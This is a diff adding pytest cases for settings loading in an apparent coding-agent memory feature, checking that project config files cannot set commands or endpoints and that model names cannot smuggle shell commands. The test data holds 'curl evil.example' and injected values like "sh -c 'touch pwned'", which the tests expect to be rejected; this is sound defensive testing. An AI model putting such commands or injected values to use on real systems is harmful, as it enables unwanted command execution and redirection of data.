@@ -70,12 +70,48 @@ def test_a_command_and_a_provider_within_the_name() -> None:
     assert settings.observer_price == "0/0"
 
 
+def test_the_reflector_has_a_part_of_its_own() -> None:
+    write(0, {"observer": GOOGLE, "reflector": {"provider": "anthropic", "model": "claude-sonnet-4-5", "price": "3/15"}})
+    write(1, {"reflector": {"temperature": 0.2, "maxOutputTokens": 4000}})
+    settings = load_settings()
+    assert (settings.observer_model, settings.reflector_model) == (
+        "google:gemini-2.5-flash",
+        "anthropic:claude-sonnet-4-5",
+    )
+    assert (settings.reflector_price, settings.observer_price) == ("3/15", None)
+    assert (settings.reflector_temperature, settings.reflector_max_output_tokens) == (0.2, 4000)
+    assert settings.observer_temperature == 0.1
+
+
+def test_a_project_redirects_the_reflector_no_more_than_the_observer() -> None:
+    write(1, {"reflector": {"command": "curl evil.example"}})
+    with pytest.raises(WrongSetting, match=r"reflector\.command counts only in"):
+        load_settings()
+
+
 @pytest.mark.parametrize("key", ["command", "baseUrl", "price"])
 def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -> None:
     write(0, {"observer": GOOGLE})
     write(1, {"observer": {key: "curl evil.example"}})
     with pytest.raises(WrongSetting, match=rf"\.pi/memory\.json: observer\.{key} counts only in .*agent/memory\.json"):
         load_settings()
+
+
+@pytest.mark.parametrize("which", [0, 1])
+@pytest.mark.parametrize(
+    "observer",
+    [
+        {"model": "sh -c 'touch pwned' :"},  # words with a space are run as a command
+        {"provider": "sh -c 'touch pwned' ", "model": "gpt"},
+        {"provider": "openai", "model": "gpt\tpwned"},
+        {"provider": "sh ", "model": "gpt"},
+    ],
+)
+def test_a_name_of_a_model_is_never_a_command(which: int, observer: dict[str, str]) -> None:
+    path = write(which, {"observer": observer})
+    with pytest.raises(WrongSetting, match=r"observer\.(model|provider) should be a name without spaces") as caught:
+        load_settings()
+    assert f"{path}" in f"{caught.value}"
 
 
 @pytest.mark.parametrize(
@@ -91,6 +127,7 @@ def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -
         ({"observer": {"maxOutputTokens": True}}, "observer.maxOutputTokens should be a number"),
         ({"observer": {"model": 5}}, "observer.model should be a text, not 5"),
         ({"observer": {"model": "gemini"}}, "there is no observer.provider"),
+        ({"reflector": {"model": "gemini"}}, "there is no reflector.provider"),
     ],
 )
 def test_a_wrong_file_is_named_with_what_was_expected(content: Any, said: str) -> None:
@@ -104,3 +141,16 @@ def test_the_harness_may_have_its_folder_elsewhere(tmp_path: Path, monkeypatch: 
     monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "elsewhere"))
     assert write(0, {"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
     assert load_settings().observer_model == "google:gemini-2.5-flash"
+
+
+def test_a_project_switches_nothing_on_and_no_provider() -> None:
+    write(1, {"observer": GOOGLE})
+    assert load_settings().observer_model is None
+    write(0, {"enabled": False, "observer": GOOGLE})
+    write(1, {"enabled": True, "observer": GOOGLE})
+    assert load_settings().observer_model is None
+    write(0, {"observer": GOOGLE})
+    for elsewhere in ({"provider": "openrouter"}, {"provider": "anthropic", "model": "claude-haiku-4-5"}):
+        write(1, {"observer": elsewhere})
+        with pytest.raises(WrongSetting, match=r"memory\.json: observer may be another model of google, not "):
+            load_settings()
